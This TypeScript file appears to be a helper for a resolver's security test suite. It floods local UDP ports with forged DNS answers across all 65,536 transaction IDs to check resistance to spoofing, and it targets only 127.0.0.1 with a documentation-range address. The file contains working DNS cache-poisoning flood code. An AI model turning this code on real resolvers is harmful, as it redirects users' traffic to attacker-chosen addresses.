// A separate process that floods UDP ports with forged DNS answers: every ID 0..65535, the
// right question, a forged address. Run as a child by test/hostile/spoofing.test.ts:
//   node spoofFlood.js '{"targets":[port],"name":"x","type":"A","sources":[{"address":"127.0.0.1","port":0}],"forged":"203.0.113.66"}'
// Prints {"sent": N} when done.
import dgram from 'node:dgram';
import * as dnsPacket from 'dns-packet';

export interface FloodPlan {
  targets: number[];
  name: string;
  type: 'A' | 'AAAA';
  sources: Array<{ address: string; port: number }>;
  forged: string;
}

async function flood(plan: FloodPlan): Promise<number> {
  const template = dnsPacket.encode({
    type: 'response',
    id: 0,
    flags: dnsPacket.RECURSION_DESIRED | dnsPacket.RECURSION_AVAILABLE,
    questions: [{ name: plan.name, type: plan.type, class: 'IN' }],
    answers: [{ type: plan.type, name: plan.name, ttl: 86400, class: 'IN', data: plan.forged }],
  });
  let sent = 0;
  for (const source of plan.sources) {
    const sock = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => sock.bind(source.port, source.address, () => resolve()));
    for (const target of plan.targets) {
      for (let id = 0; id <= 0xffff; id += 256) {
        // 256 datagrams at a time, then let them drain: a paced flood reaches the target
        // instead of overflowing its receive buffer.
        await Promise.all(
          Array.from({ length: 256 }, (_, k) => {
            const packet = Buffer.from(template);
            packet.writeUInt16BE(id + k, 0);
            return new Promise<void>((resolve) => sock.send(packet, target, '127.0.0.1', () => resolve()));
          }),
        );
        sent += 256;
        await new Promise((r) => setTimeout(r, 1));
      }
    }
    await new Promise<void>((resolve) => sock.close(() => resolve()));
  }
  return sent;
}

if (require.main === module) {
  flood(JSON.parse(process.argv[2]) as FloodPlan).then(
    (sent) => console.log(JSON.stringify({ sent })),
    (err: unknown) => {
      console.error(err);
      process.exitCode = 1;
    },
  );
}
